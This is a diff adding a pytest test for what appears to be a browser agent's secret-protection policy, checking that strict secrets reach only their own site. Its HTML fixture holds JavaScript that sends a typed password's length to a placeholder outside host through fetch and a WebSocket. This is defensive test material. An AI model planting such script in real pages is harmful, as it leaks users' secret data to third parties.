@@ -126,6 +126,29 @@ async def test_a_web_socket_to_another_site_passes_messages_but_no_secret(
     assert said == ["hello"]
 
 
+@pytest.mark.parametrize("strict", [False, True])
+async def test_a_page_with_a_strict_secret_talks_to_its_own_site_alone(
+    under, policy, sites, strict
+):
+    page = (
+        "<label>Password <input id=p></label><script>"
+        "const s = new WebSocket('ws://@OTHER_HOST@/live'); s.onopen = () => s.send('hello');"
+        "const send = (to) => fetch(to, {mode: 'no-cors'}); send('@OTHER@/before');"
+        "p.oninput = () => { send('@OTHER@/' + p.value.length); send('@SHOP@/own');"
+        " s.send(p.value.length) }</script>"
+    )
+    own = {name: replace(each, strict=strict) for name, each in policy.secrets.items()}
+    talking = tuple(replace(rule, web_sockets=True) for rule in policy.sites)
+    browser = under(replace(policy, secrets=own, sites=talking))
+    fill = act.Fill(1, "<secret:shop_password>")
+    trajectory = await episode(browser, task(sites, page), act.Wait(300), fill, act.Wait(300))
+    length = len(PASSWORD)
+    found = {each.path if each.method == "GET" else each.text for each in sites.arrivals}
+    assert {"/before", "/own", "hello"} <= found
+    assert ({f"/{length}", str(length)} & found == set()) == strict
+    assert set(refusals(trajectory)) == ({"strict"} if strict else set())
+
+
 @pytest.mark.parametrize("unsearchable", ["deny", "allow"])
 async def test_what_cannot_be_searched_goes_to_other_sites_only_where_it_is_allowed(
     under, policy, sites, unsearchable
